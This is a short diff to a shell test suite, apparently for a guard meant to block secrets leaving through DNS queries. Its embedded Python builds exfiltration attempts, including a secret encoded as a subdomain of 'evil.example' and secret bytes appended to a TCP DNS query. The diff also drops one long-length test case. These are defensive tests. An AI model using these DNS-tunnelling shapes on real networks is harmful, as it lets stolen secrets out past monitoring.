@@ -22,7 +22,6 @@ tunnel() {
 	    "tcp-second": lambda: job.ask_tcp(job.framed(job.question("feed.example")) +
 	                                      job.framed(job.question(secret + ".evil.example"))),
 	    "tcp-bytes-after": lambda: job.ask_tcp(job.framed(job.question("feed.example") + job.SECRET)),
-	    "tcp-long-length": lambda: job.ask_tcp(b"\xff\xff" + job.SECRET),
 	}
 	shapes[sys.argv[1]]()
 	END
@@ -35,7 +34,7 @@ test_a_secret_in_a_question_does_not_leave() {
 	for shape in A TXT NULL MX SRV PTR ip6.arpa below long; do
 		new_secret
 		echo "# shape: $shape"
-		verdict "dns-name" "${ATTACK[@]}" $shape
+		verdict "dns-*" "${ATTACK[@]}" $shape
 	done
 }
 
@@ -43,7 +42,7 @@ test_a_secret_in_a_stream_to_the_resolver_does_not_leave() {
 	local shape
 	tunnel
 	policy_feed
-	for shape in tcp tcp-second tcp-bytes-after tcp-long-length; do
+	for shape in tcp tcp-second tcp-bytes-after; do
 		new_secret
 		echo "# shape: $shape"
 		guarded -- "${ATTACK[@]}" $shape
